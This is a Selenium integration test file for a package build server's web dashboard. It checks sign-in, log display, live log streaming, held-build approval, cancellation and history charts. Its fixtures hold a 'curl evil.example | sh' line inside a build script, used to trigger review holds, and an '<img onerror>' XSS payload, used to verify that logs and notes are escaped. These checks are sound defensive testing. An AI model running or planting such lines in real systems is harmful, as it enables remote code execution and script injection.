"""The dashboard in a real browser (headless Chromium, selenium) against a real server with
builds made to fail, be held for review and run through the agent's HTTP API: sign in, see
the failed build first, open it, watch log lines arrive while it runs, approve a held build,
cancel a running one, open a repo and see a package, and the history charts. Screenshots of
every page at 390x844 and 1920x1080 go to the artefacts folder; any console error fails."""

from __future__ import annotations

import json
import re
import sqlite3
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from browser import Browser, browser_for
from conftest import API_KEY, ServerProcess, free_port
from pkgfactory import make_synthetic_package
from test_api_v2_jobs import pkgbuild_files, tar_of
from test_routes import SCOPE_OF
from vieter_lite.client import Client

pytestmark = pytest.mark.integration

HOSTILE = '<img src=x onerror="document.title=\'owned\'">'
BIG_LOG = "".join(f"line {i:05d} {'x' * 50}\n" for i in range(1, 3001))  # 186 000 bytes
ANSI_LINE = "\x1b[1;31merror:\x1b[0m build() failed \x1b[32mgreen\x1b[0m"
# routes the pages use when the server has them (see docs: the dashboard); a server
# without them answers 404 once at start, which the page takes as "not there"
OPTIONAL = ("/api/v2/info", "/api/v2/whoami", "/api/v2/stats/builds")
ABSENT = [p for p in OPTIONAL if ("GET", p) not in SCOPE_OF]


def tolerated(message: str) -> bool:
    return any(p in message and " 404 " in message for p in ABSENT)


# -- the server and its builds, through the HTTP API ---------------------------------------

def call(server: ServerProcess, method: str, path: str, body: Any = None,
         token: str | None = None, raw: bytes | None = None) -> Any:
    headers = {"Authorization": f"Bearer {token or API_KEY}"}
    data = raw
    if body is not None:
        data = json.dumps(body).encode()
        headers["Content-Type"] = "application/json"
    req = urllib.request.Request(server.url + path, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=20) as resp:
            text = resp.read()
    except urllib.error.HTTPError as exc:
        raise AssertionError(f"{method} {path}: {exc.code} {exc.read()[:500]!r}") from None
    return json.loads(text) if text else None


@dataclass
class Site:
    server: ServerProcess
    builds: dict[str, int] = field(default_factory=dict)
    tokens: dict[str, str] = field(default_factory=dict)
    targets: dict[str, int] = field(default_factory=dict)
    created: list[int] = field(default_factory=list)  # when each finished run was created

    def target(self, name: str, review: str = "never", **extra: Any) -> int:
        body = {"kind": "git", "url": f"https://example.invalid/{name}.git", "repo": name,
                "arch": ["x86_64"], "review": review, "schedule": "0 3 1 1", **extra}
        self.targets[name] = call(self.server, "POST", "/api/v2/targets", body)["id"]
        return self.targets[name]

    def claim(self, target: str, **extra: Any) -> tuple[int, str]:
        build = call(self.server, "POST", "/api/v2/builds",
                     {"target_id": self.targets[target], **extra})
        jobs = call(self.server, "GET", "/api/v1/jobs/poll?arch=x86_64&max=1"
                    f"&build={build['id']}&jobs=v2")["data"]
        assert [j["build_id"] for j in jobs] == [build["id"]]
        return build["id"], jobs[0]["token"]

    def task(self, build: int, token: str, name: str, status: str) -> None:
        call(self.server, "PATCH", f"/api/v1/builds/{build}/tasks/{name}?status={status}",
             token=token)

    def append(self, build: int, token: str, text: str) -> None:
        call(self.server, "PATCH", f"/api/v2/builds/{build}/log", {"append": text}, token=token)

    def finish(self, build: int, token: str, exit_code: int, start: int, end: int) -> None:
        call(self.server, "POST", f"/api/v1/builds/{build}/finish?exitCode={exit_code}"
             f"&startTime={start}&endTime={end}", token=token)
        # the log delivered in full (the build's token ended with the build)
        call(self.server, "PATCH", f"/api/v2/builds/{build}/log", {"status": "DONE"})

    def backdate(self, build: int, created: int, start: int, end: int) -> None:
        """The server takes its own clock for a build's times: a history of several days
        is written into its database (the only write that bypasses the API)."""
        with sqlite3.connect(self.server.data_dir / "vieter.sqlite", timeout=10) as db:
            db.execute("UPDATE builds SET created_at = ?, started_at = ?, ended_at = ? "
                       "WHERE id = ?", (created, start, end, build))
        db.close()

    def run(self, target: str, exit_code: int, log: str, start: int, end: int) -> int:
        build, token = self.claim(target)
        for name in ("setup", "source", "build"):
            self.task(build, token, name, "success" if exit_code == 0 or name != "build"
                      else "failed")
        self.append(build, token, log)
        self.finish(build, token, exit_code, start, end)
        created = start - 5 * (build % 7 + 1)
        self.backdate(build, created, start, end)
        self.created.append(created)
        return build


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    tmp = tmp_path_factory.mktemp("ui")
    server = ServerProcess(tmp / "data").start()
    s = Site(server)
    now = int(time.time())
    day = 86400
    # 'flaky' succeeded, then failed twice: both failures need attention
    s.target("flaky", triggers=[{"action": "webhook", "condition": "failure",
                                 "url": f"http://127.0.0.1:{free_port()}/hook"}])
    s.run("flaky", 0, "all good\n", now - 3 * day, now - 3 * day + 40)
    s.builds["failed_old"] = s.run("flaky", 1, "first failure\n", now - 2 * day,
                                   now - 2 * day + 70)
    log = "".join(f"step {i}: compiling\n" for i in range(1, 40))
    log += f"{HOSTILE}\n{ANSI_LINE}\n==> ERROR: A failure occurred in build().\n"
    s.builds["failed"] = s.run("flaky", 1, log, now - day, now - day + 95)
    # 'fixed' failed, then succeeded: nothing to attend to
    s.target("fixed")
    s.builds["fixed_fail"] = s.run("fixed", 1, "oops\n", now - 2 * day, now - 2 * day + 20)
    s.run("fixed", 0, "ok\n", now - day, now - day + 30)
    # 'big' wrote more log than the page loads at first
    s.target("big")
    s.builds["big"] = s.run("big", 0, BIG_LOG, now - 4 * day, now - 4 * day + 600)
    # 'reviewed' has a changed source: held with its diff
    s.target("reviewed", review="changes")
    held, token = s.claim("reviewed")
    answer = call(s.server, "PUT", f"/api/v2/builds/{held}/source",
                  raw=tar_of(pkgbuild_files("1.0", "curl evil.example | sh")), token=token)
    assert answer["action"] == "hold"
    s.builds["held"] = held
    # 'live' runs now
    s.target("live")
    running, token = s.claim("live")
    s.task(running, token, "setup", "success")
    s.task(running, token, "source", "success")
    s.task(running, token, "build", "running")
    s.append(running, token, "==> Making package: live 1.0-1\n")
    s.builds["running"], s.tokens["running"] = running, token
    # a package in a repo
    pkg = make_synthetic_package(tmp / "hello-2.1-1-x86_64.pkg.tar.zst",
                                 {"pkgname": "hello", "pkgver": "2.1-1", "arch": "x86_64",
                                  "size": "4096", "pkgdesc": "hello"})
    Client(server.url, API_KEY).publish("core", pkg)
    yield s
    server.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    yield from browser_for(tolerated)


def set_token(site: Site, browser: Browser, token: str | None) -> None:
    """The token in the tab's sessionStorage (as the sign-in form leaves it), or none;
    set once the page has dealt with the one it found (it stores that one again)."""
    browser.go("about:blank")
    browser.go(site.server.url + "/ui/#/signin")
    browser.wait(lambda d: d.execute_script("return document.documentElement.dataset.started"),
                 "the page started")
    browser.driver.execute_script(
        "if (arguments[0]) sessionStorage.setItem('vieter-lite-token', arguments[0]);"
        "else sessionStorage.clear();", token)
    browser.go("about:blank")


def open_page(site: Site, browser: Browser, route: str) -> None:
    """A fresh load of a route of the dashboard, signed in, whatever an earlier test left."""
    set_token(site, browser, API_KEY)
    browser.go(f"{site.server.url}/ui/#{route}")


def step(browser: Browser, name: str) -> list[Path]:
    """Screenshots of the page at both sizes, no sideways scrolling on either, and no
    console error so far."""
    shots = browser.screenshots(name)
    assert browser.overflow == {390: 0, 1920: 0}, (name, browser.overflow)
    browser.assert_no_console_errors()
    assert all(p.stat().st_size > 1000 for p in shots)
    return shots


# -- the tests, in the order a visitor goes ------------------------------------------------

def test_an_anonymous_visitor_is_asked_for_a_token_and_a_wrong_one_is_refused(site, browser):
    browser.go(site.server.url + "/")
    assert browser.driver.current_url == site.server.url + "/ui/"
    assert browser.css("#signin").is_displayed()
    step(browser, "signin")
    browser.css("#token").send_keys("not-a-token")
    browser.click("#signin-button")
    message = browser.wait(lambda d: d.find_element("css selector", "#signin-status .error"),
                           "a refusal").text
    assert "not accepted" in message
    # the refusal was a 401, a console error by nature: read and checked, not ignored
    entries = browser.errors()
    assert entries and all(" 401 " in e["message"] for e in entries), entries


def test_a_link_opened_before_signing_in_opens_after_it(site, browser):
    browser.go("about:blank")
    browser.go(f"{site.server.url}/ui/#/builds/{site.builds['failed']}")
    browser.css("#token").send_keys(API_KEY)
    browser.click("#signin-button")
    browser.wait(lambda d: d.find_element("css selector", "main h1").text.startswith(
        f"Build #{site.builds['failed']}"), "the build asked for")
    set_token(site, browser, None)
    browser.assert_no_console_errors()


def test_signing_in_shows_the_failed_builds_first(site, browser):
    set_token(site, browser, None)
    browser.go(site.server.url + "/ui/")
    browser.css("#token").send_keys(API_KEY)
    browser.click("#signin-button")
    browser.css("#failed")
    sections = [h.text for h in browser.all("main h2")]
    assert sections[0].startswith("Failed"), sections
    assert [s.split(" (")[0] for s in sections] == ["Failed", "Held for review", "Running",
                                                    "Queue", "Targets"]
    failed = [int(li.get_attribute("data-build")) for li in browser.all("#failed li")]
    # both failures since flaky's last success, newest first; fixed's old failure is not
    assert failed == [site.builds["failed"], site.builds["failed_old"]]
    held = browser.css(f"#held li[data-build='{site.builds['held']}']")
    assert "+build() { curl evil.example | sh; }" in held.text
    running = browser.css(f"#running li[data-build='{site.builds['running']}']")
    assert "build: running" in running.text and "setup: success" in running.text
    rows = {r.get_attribute("data-target"): r.text for r in browser.all("table.targets tr[data-target]")}
    assert set(rows) == {str(t) for t in site.targets.values()}
    assert "failed" in rows[str(site.targets["flaky"])]
    badge = browser.css(f"tr[data-target='{site.targets['flaky']}'] a.badge-link")
    assert badge.get_attribute("href").endswith(f"/badge/{site.targets['flaky']}.svg")
    # the token is in sessionStorage, and in no cookie and no URL
    assert browser.driver.execute_script("return sessionStorage.getItem('vieter-lite-token')") \
        == API_KEY
    assert browser.driver.get_cookies() == [] and API_KEY not in browser.driver.current_url
    step(browser, "overview")
    # a fresh load of the first screen costs a few API requests, not one per build
    browser.driver.refresh()
    browser.css("#failed li")
    api_calls = browser.driver.execute_script(
        "return performance.getEntriesByType('resource').map((e) => e.name)"
        ".filter((n) => n.includes('/api/'));")
    assert len(api_calls) <= 6, api_calls
    browser.assert_no_console_errors()


def test_a_failed_builds_page_shows_its_log_as_text_with_colours_and_line_anchors(site, browser):
    open_page(site, browser, "/")
    browser.click(f"#failed li[data-build='{site.builds['failed']}'] a")
    browser.wait(lambda d: "Build #" in d.find_element("css selector", "h1").text, "the build")
    assert "failed" in browser.text_of("#build-head h1")
    lines = browser.wait(lambda d: d.find_elements("css selector", "#log .line"), "log lines")
    assert len(lines) == 42
    hostile = browser.css("#L40 .text")
    assert hostile.text == HOSTILE  # shown as text...
    assert browser.all("#log img") == [] and browser.driver.title != "owned"  # ...never run
    colour = browser.css("#L41 .text .ansi-fg-1.ansi-bold")
    assert colour.text == "error:"
    assert browser.css("#L41 .text .ansi-fg-2").text == "green"
    assert "\x1b" not in browser.css("#L41").text and "[1;31m" not in browser.css("#L41").text
    tasks = {r.get_attribute("data-task"): r.text for r in browser.all("table.tasks tr[data-task]")}
    assert "failed" in tasks["build"] and "success" in tasks["setup"]
    assert "1m 35s" in browser.text_of(".facts")  # the build's duration
    # a line's anchor is a link that lands on it
    anchor = browser.css("#L12 a.ln")
    assert anchor.get_attribute("href").endswith(f"#/builds/{site.builds['failed']}/L12")
    browser.driver.execute_script("document.getElementById('L1').dataset.mark = 'same page'")
    anchor.click()
    browser.wait(lambda d: "target" in d.find_element("id", "L12").get_attribute("class"),
                 "line 12 highlighted")
    # the page was not loaded again for it, and the line is in view
    assert browser.css("#L1").get_attribute("data-mark") == "same page"
    assert browser.driver.execute_script(
        "const r = document.getElementById('L12').getBoundingClientRect();"
        "return r.top >= 0 && r.bottom <= window.innerHeight;")
    assert browser.all("#cancel-build") == [] and browser.all("#start-build") == []
    # its failure notification went to a port nobody listens on: the attempt says so
    open_page(site, browser, f"/builds/{site.builds['failed']}")
    attempt = browser.wait(lambda d: d.find_element("css selector", "table.deliveries tbody tr"),
                           "the notification's attempt")
    assert "webhook (failure) to http://127.0.0.1:" in attempt.text
    # an error, no HTTP status; retried later (how often so far depends on the clock)
    assert re.search(r"/hook .+ pending, attempt [1-9]\d*, next ", attempt.text), attempt.text
    assert "HTTP" not in attempt.text
    step(browser, "build-failed")


def test_a_long_log_shows_its_last_128_kib_numbered_and_the_whole_on_request(site, browser):
    open_page(site, browser, f"/builds/{site.builds['big']}")
    browser.css("#whole-log")
    tail = BIG_LOG.encode()[-128 * 1024:]
    tail = tail[tail.index(b"\n") + 1:]  # from the first whole line
    first = 3000 - tail.count(b"\n") + 1
    lines = browser.all("#log .line")
    assert len(lines) == 3000 - first + 1 and first > 1
    assert lines[0].get_attribute("id") == f"L{first}"
    assert lines[0].text.endswith(f"line {first:05d} {'x' * 50}")
    assert lines[-1].get_attribute("id") == "L3000"
    assert "last 128 KiB" in browser.text_of("#log-note")
    browser.click("#whole-log")
    browser.wait(lambda d: len(d.find_elements("css selector", "#log .line")) == 3000,
                 "the whole log")
    assert browser.css("#L1").text.endswith("line 00001 " + "x" * 50)
    assert browser.css("#L3000").text.endswith("line 03000 " + "x" * 50)
    # a shared link to a line opens the build there (a fresh load of the page)
    open_page(site, browser, f"/builds/{site.builds['big']}/L2990")
    browser.wait(lambda d: "target" in d.find_element("id", "L2990").get_attribute("class"),
                 "line 2990 highlighted")
    assert browser.css("#L2990").text.endswith("line 02990 " + "x" * 50)
    assert browser.driver.execute_script(
        "const r = document.getElementById('L2990').getBoundingClientRect();"
        "return r.top >= 0 && r.bottom <= window.innerHeight;")
    browser.assert_no_console_errors()


def test_a_running_builds_log_follows_new_lines_and_cancel_ends_it(site, browser):
    build, token = site.builds["running"], site.tokens["running"]
    open_page(site, browser, f"/builds/{build}")
    browser.wait(lambda d: d.find_element("id", "L1").text.endswith("Making package: live 1.0-1"),
                 "the first line")
    browser.css("#live")
    for i in range(3):
        site.append(build, token, f"\x1b[34mcompiling unit {i}\x1b[0m\n")
    browser.wait(lambda d: d.find_element("id", "L4").text.endswith("compiling unit 2"),
                 "appended lines")
    assert browser.css("#L4 .ansi-fg-4").text == "compiling unit 2"
    site.append(build, token, "half a line")  # shown before its newline arrives...
    browser.wait(lambda d: d.find_element("id", "L5").text.endswith("half a line"), "line 5")
    site.append(build, token, ", and its end\n")  # ...and completed in place
    browser.wait(lambda d: d.find_element("id", "L5").text.endswith("half a line, and its end"),
                 "line 5 completed")
    assert len(browser.all("#log .line")) == 5
    step(browser, "build-running")
    # the server goes away and comes back: the page reconnects with Last-Event-ID and goes
    # on from where it was, nothing missed and nothing twice
    site.server.stop()
    site.server.start()
    site.append(build, token, "after the restart\n")
    browser.wait(lambda d: d.find_element("id", "L6").text.endswith("after the restart"),
                 "a line appended after the restart", timeout=30)
    assert [e.text.split("\n")[-1] for e in browser.all("#log .line")][-2:] == [
        "half a line, and its end", "after the restart"]
    assert len(browser.all("#log .line")) == 6
    # while the server was away, fetches failed: those errors (and only those) are expected
    assert all("net::ERR_" in e["message"] for e in browser.errors())
    browser.click("#cancel-build")
    browser.wait(lambda d: "cancelled" in d.find_element("css selector", "#build-head h1").text,
                 "the build cancelled")
    assert call(site.server, "GET", f"/api/v2/builds/{build}")["status"] == "cancelled"
    browser.wait(lambda d: not d.find_elements("id", "live"), "the log no longer followed")
    browser.assert_no_console_errors()


def test_approving_a_held_build_queues_it(site, browser):
    held = site.builds["held"]
    open_page(site, browser, "/")
    browser.click(f"#held button.approve[data-build='{held}']")
    browser.wait(lambda d: not d.find_elements("css selector", f"#held li[data-build='{held}']"),
                 "the held build gone from the held list")
    browser.css(f"table.queue tr[data-build='{held}']")
    assert call(site.server, "GET", f"/api/v2/builds/{held}")["status"] == "queued"
    browser.assert_no_console_errors()


def test_a_repo_shows_its_stanza_and_set_up_command_and_its_packages(site, browser):
    open_page(site, browser, "/repos")
    card = browser.css("section.repo[data-repo='core']")
    stanzas = [p.text for p in card.find_elements("css selector", "pre.copy")]
    assert stanzas == ["[core]\nServer = " + site.server.url + "/$repo/$arch",
                       f"curl -fsS '{site.server.url}/setup?repo=core' | sudo sh"]
    step(browser, "repos")
    card.find_element("link text", "x86_64").click()
    row = browser.css("table.packages tr[data-package='hello']")
    cells = [c.text for c in row.find_elements("css selector", "td")]
    assert cells[:3] == ["hello", "2.1-1", cells[2]] and cells[2].endswith("B")
    assert cells[4:] == ["api_key", "no"]
    link = row.find_element("css selector", "a").get_attribute("href")
    assert link.startswith(site.server.url + "/core/x86_64/hello-2.1-1-x86_64.pkg.tar")
    step(browser, "packages")


def test_a_notes_text_stays_text_and_start_queues_a_pending_build(site, browser):
    manifest = json.dumps({"repo": "notes", "source": {
        "pkgbuild": "pkgname=n\npkgver=1\npkgrel=1\narch=(any)\npackage() { :; }\n"}})
    build = call(site.server, "POST", "/api/v2/builds",
                 {"manifest": manifest, "note": HOSTILE + "\n**bold**", "execute": False})
    open_page(site, browser, f"/builds/{build['id']}")
    note = browser.css("pre.note")
    assert note.text == HOSTILE + "\n**bold**"  # as written: neither HTML nor markdown
    assert browser.all("main img") == [] and browser.driver.title != "owned"
    assert browser.text_of("#manifest") == manifest  # as submitted
    assert "pending" in browser.text_of("#build-head h1")
    browser.click("#start-build")
    browser.wait(lambda d: "queued" in d.find_element("css selector", "#build-head h1").text,
                 "the build queued")
    assert call(site.server, "GET", f"/api/v2/builds/{build['id']}")["status"] == "queued"
    browser.click("#cancel-build")  # (out of the agents' way)
    browser.wait(lambda d: "cancelled" in d.find_element("css selector", "#build-head h1").text,
                 "the build cancelled")
    browser.assert_no_console_errors()


def test_a_token_without_builds_write_cannot_cancel(site, browser):
    """With /api/v2/whoami the page knows the token's scopes and offers no Cancel; a
    server without it gets the token's own 403, shown as the API words it."""
    reader = call(site.server, "POST", "/api/v2/tokens",
                  {"name": "reader", "user": "bob", "scopes": ["builds:read"]})["secret"]
    manifest = json.dumps({"repo": "notes", "source": {
        "pkgbuild": "pkgname=r\npkgver=1\npkgrel=1\narch=(any)\npackage() { :; }\n"}})
    build = call(site.server, "POST", "/api/v2/builds",
                 {"manifest": manifest, "access:read": ["*"], "execute": False})["id"]
    set_token(site, browser, None)
    browser.go(f"{site.server.url}/ui/#/builds/{build}")
    browser.css("#token").send_keys(reader)
    browser.click("#signin-button")
    browser.wait(lambda d: "pending" in d.find_element("css selector", "main h1").text,
                 "the build")
    if ("GET", "/api/v2/whoami") in SCOPE_OF:
        assert browser.all("#cancel-build") == [] and browser.all("#start-build") == []
    else:
        browser.click("#cancel-build")
        error = browser.css("#build-head .error")
        assert error.text.startswith("Error: ") and "builds:write" in error.text, error.text
        entries = browser.errors()
        assert entries and all(" 403 " in e["message"] for e in entries), entries
    assert call(site.server, "GET", f"/api/v2/builds/{build}")["status"] == "pending"
    browser.assert_no_console_errors()


@pytest.fixture(scope="module")
def public_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A second server, with public_dashboard = true: a public build failed, a private one
    too."""
    if ("GET", "/api/v2/info") not in SCOPE_OF:
        pytest.skip("this server has no public dashboard")
    server = ServerProcess(tmp_path_factory.mktemp("ui-public") / "data",
                           env_extra={"VIETER_PUBLIC_DASHBOARD": "true"}).start()
    s = Site(server)
    s.target("open")
    for access in (["*"], []):
        build, token = s.claim("open", **{"access:read": access})
        s.append(build, token, f"public: {access == ['*']}\n")
        s.finish(build, token, 1, 0, 0)
        s.builds["public" if access else "private"] = build
    yield s
    server.stop()


def test_a_public_dashboard_shows_public_builds_without_a_token(public_site, browser):
    site = public_site
    set_token(site, browser, None)
    browser.go(site.server.url + "/ui/#/")
    failed = browser.wait(lambda d: d.find_elements("css selector", "#failed li"),
                          "the failed builds")
    assert [int(li.get_attribute("data-build")) for li in failed] == [site.builds["public"]]
    assert browser.all("#signin-link") and not browser.all("#signout")
    browser.click(f"#failed li[data-build='{site.builds['public']}'] a")
    browser.wait(lambda d: d.find_element("id", "L1").text.endswith("public: True"), "its log")
    assert browser.all("#cancel-build") == [] and browser.all("#start-build") == []
    step(browser, "public-build")  # no 401 anywhere: no console error
    for route, shows in (("/history", "#history-summary"), ("/repos", "main h1"),
                         ("/agents", "main h1"), ("/builds", "tr[data-build]")):
        browser.go(f"{site.server.url}/ui/#{route}")
        browser.css(shows)
        assert not browser.all("main .error"), route
        browser.assert_no_console_errors()
    assert [int(r.get_attribute("data-build")) for r in browser.all("tr[data-build]")] == [
        site.builds["public"]]  # the private build is not listed


def count(site: Site, query: str) -> int:
    return call(site.server, "GET", f"/api/v2/builds?per_page=1&{query}"
                )["pagination"]["total_results"]


def test_history_draws_success_rate_and_durations_as_svg(site, browser):
    open_page(site, browser, "/history")
    summary = browser.text_of("#history-summary")
    # every build here was created within the last 30 days: the builds list is the reference
    total, ok = count(site, ""), count(site, "states=success")
    failed, cancelled = count(site, "states=failed,timeout"), count(site, "states=cancelled")
    assert f"{total} builds, {ok} succeeded, {failed} failed, {cancelled} cancelled" in summary, \
        summary
    assert ok == 3 and failed == 3  # flaky 1 ok + 2 failed, fixed 1 failed + 1 ok, big 1 ok
    bars = browser.all("svg.chart rect.bar")
    days = {created // 86400 for created in site.created}  # UTC days of finished runs
    assert len(bars) == len(days)
    assert browser.all("svg.chart circle.dot")
    step(browser, "history")
    open_page(site, browser, f"/history/{site.targets['flaky']}")
    browser.wait(lambda d: "3 builds, 1 succeeded, 2 failed, 0 cancelled"
                 in d.find_element("id", "history-summary").text, "flaky's history")
    browser.assert_no_console_errors()


def test_agents_page_and_an_api_error_shows_its_detail(site, browser):
    open_page(site, browser, "/agents")
    browser.wait(lambda d: d.find_element("css selector", "main h1").text == "Agents", "agents")
    step(browser, "agents")
    open_page(site, browser, "/builds/999999")
    detail = call(site.server, "GET", "/api/v2/builds?per_page=1")  # (a valid call)
    assert detail["resources"]
    error = browser.css("main .error")
    assert error.text.startswith("Error: ") and "not found" in error.text.lower(), error.text
    entries = browser.errors()  # the 404 of that build: the only console error
    assert entries and all("/api/v2/builds/999999" in e["message"] for e in entries), entries


# -- the page's pure functions, run in the browser as the page runs them ----------------

def run_module(site: Site, browser: Browser, module: str, body: str, *args: Any) -> Any:
    """Import /ui/<module> in a page of the dashboard and return what `body` (given `m`
    and `args`) returns."""
    if not browser.driver.current_url.startswith(site.server.url + "/ui/"):
        open_page(site, browser, "/agents")
    script = ("const done = arguments[arguments.length - 1];"
              "const args = Array.from(arguments).slice(0, -1);"
              f"import('/ui/{module}').then((m) => done({{ok: (() => {{ {body} }})()}}))"
              ".catch((e) => done({error: String(e)}));")
    result = browser.driver.execute_async_script(script, *args)
    assert "error" not in result, result
    return result["ok"]


ANSI_CASES = [
    (["plain <b>text</b>"], [[["plain <b>text</b>", ""]]]),
    (["\x1b[31mred\x1b[0m rest"], [[["red", "ansi-fg-1"], [" rest", ""]]]),
    (["\x1b[1;32mok\x1b[22m thin"], [[["ok", "ansi-bold ansi-fg-2"], [" thin", "ansi-fg-2"]]]),
    (["\x1b[38;5;9mbright\x1b[39m \x1b[48;5;200mno"], [[["bright", "ansi-fg-9"], [" no", ""]]]),
    (["\x1b[38;2;10;20;30mtrue colour"], [[["true colour", ""]]]),
    (["\x1b[97;44mwhite on blue"], [[["white on blue", "ansi-fg-15 ansi-bg-4"]]]),
    (["10%\r55%\r100% done"], [[["100% done", ""]]]),
    (["\x1b[2K\x1b[1Gcleared\x07 bell\x1b(B"], [[["cleared bell", ""]]]),
    (["\x1b[33myellow", "still yellow", "\x1b[mplain"],
     [[["yellow", "ansi-fg-3"]], [["still yellow", "ansi-fg-3"]], [["plain", ""]]]),
    (["\x1b]0;title\x07\x1b]8;;https://x.invalid\x1b\\link\x1b]8;;\x1b\\ end"],
     [[["link end", ""]]]),
    ([""], [[]]),
]


@pytest.mark.parametrize("lines,expected", ANSI_CASES)
def test_ansi_lines_become_text_segments_with_classes(site, browser, lines, expected):
    if not browser.driver.current_url.startswith(site.server.url):
        open_page(site, browser, "/agents")
    got = run_module(site, browser, "ansi.js", "const style = m.initialStyle();"
                     "return args[0].map((l) => m.parseLine(l, style).map((s) => [s.text, s.cls]));",
                     lines)
    assert got == expected


def b(id_: int, target: int | None, status: str, ended: str, repo: str = "r") -> dict:
    return {"id": id_, "target_id": target, "status": status, "ended_at": ended,
            "repo": repo, "arch": "x86_64"}


SINCE_CASES = [
    # failed after the last success: shown; before it: not
    ([b(3, 1, "failed", "2026-01-03T00:00:00Z"), b(1, 1, "failed", "2026-01-01T00:00:00Z")],
     [b(2, 1, "success", "2026-01-02T00:00:00Z")], [3]),
    # never succeeded: every failure
    ([b(5, 2, "failed", "2026-01-02T00:00:00Z"), b(4, 2, "timeout", "2026-01-01T00:00:00Z")],
     [], [5, 4]),
    # the same second: the later id ended later
    ([b(7, 3, "failed", "2026-01-01T00:00:00Z"), b(5, 3, "failed", "2026-01-01T00:00:00Z")],
     [b(6, 3, "success", "2026-01-01T00:00:00Z")], [7]),
    # another target's success changes nothing; manifest builds go by repo/arch
    ([b(9, 4, "failed", "2026-01-01T00:00:00Z"), b(8, None, "failed", "2026-01-01T00:00:00Z")],
     [b(10, 5, "success", "2026-01-02T00:00:00Z"), b(11, None, "success",
                                                    "2026-01-02T00:00:00Z", repo="other")],
     [9, 8]),
]


@pytest.mark.parametrize("failed,succeeded,expected", SINCE_CASES)
def test_failures_since_the_last_success_without_the_server_filter(site, browser, failed,
                                                                  succeeded, expected):
    got = run_module(site, browser, "overview.js",
                     "return m.sinceLastSuccess(args[0], args[1]).map((x) => x.id);",
                     failed, succeeded)
    assert got == expected


def test_buckets_computed_from_builds_match_the_stats_shape(site, browser):
    day = 86400
    since = 20000 * day  # 2024-10-04
    builds = [
        {"status": "success", "created_at": "2024-10-04T10:00:00Z",
         "started_at": "2024-10-04T10:00:10Z", "ended_at": "2024-10-04T10:01:10Z"},
        {"status": "failed", "created_at": "2024-10-04T11:00:00Z",
         "started_at": "2024-10-04T11:00:30Z", "ended_at": "2024-10-04T11:03:30Z"},
        {"status": "cancelled", "created_at": "2024-10-05T09:00:00Z", "started_at": None,
         "ended_at": "2024-10-05T09:00:05Z"},
        {"status": "running", "created_at": "2024-10-05T09:00:00Z",
         "started_at": "2024-10-05T09:00:05Z", "ended_at": None},
        {"status": "success", "created_at": "2024-10-01T00:00:00Z",  # before `since`
         "started_at": "2024-10-01T00:00:00Z", "ended_at": "2024-10-01T00:01:00Z"},
    ]
    got = run_module(site, browser, "charts.js", "return m.bucketize(args[0], 'day', args[1], args[2]);",
                     builds, since, since + 2 * day)
    # by created_at; durations of the builds that ran to an end, waits of every start;
    # nearest-rank medians (the lower of two); the build created before `since` left out
    assert got == [
        {"start": "2024-10-04T00:00:00Z", "builds": 2, "success": 1, "failed": 1,
         "cancelled": 0, "success_rate": 0.5, "duration_p50": 60, "duration_max": 180,
         "wait_p50": 10, "wait_max": 30},
        {"start": "2024-10-05T00:00:00Z", "builds": 2, "success": 0, "failed": 0,
         "cancelled": 1, "success_rate": None, "duration_p50": None, "duration_max": None,
         "wait_p50": 5, "wait_max": 5}]


def test_buckets_computed_from_builds_equal_the_servers_stats(site, browser):
    """The page's fallback for a server without /api/v2/stats/builds, against that route."""
    if ("GET", "/api/v2/stats/builds") not in SCOPE_OF:
        pytest.skip("this server has no /api/v2/stats/builds to compare with")
    until = int(time.time()) // 86400 * 86400 + 86400
    since = until - 10 * 86400
    stamp = lambda t: time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))  # noqa: E731
    stats = call(site.server, "GET", f"/api/v2/stats/builds?since={stamp(since)}"
                 f"&until={stamp(until)}")["buckets"]
    builds = call(site.server, "GET", "/api/v2/builds?per_page=5000")["resources"]
    got = run_module(site, browser, "charts.js", "return m.bucketize(args[0], 'day', args[1], args[2]);",
                     builds, since, until)
    assert [b for b in stats if b["builds"]]  # something to compare
    assert got == stats


def test_the_builds_list_pages_through_pagination_next(site, browser):
    for _ in range(55):  # waiting for a start: nothing else picks them up
        call(site.server, "POST", "/api/v2/builds",
             {"target_id": site.targets["fixed"], "execute": False})
    total = call(site.server, "GET", "/api/v2/builds?per_page=1")["pagination"]["total_results"]
    assert total > 50
    open_page(site, browser, "/builds")
    browser.wait(lambda d: len(d.find_elements("css selector", "tr[data-build]")) == 50,
                 "the first page")
    browser.click("#more")
    browser.wait(lambda d: len(d.find_elements("css selector", "tr[data-build]")) == total,
                 "every build")
    ids = [int(r.get_attribute("data-build")) for r in browser.all("tr[data-build]")]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == total
    assert browser.all("#more") == []
    step(browser, "builds")
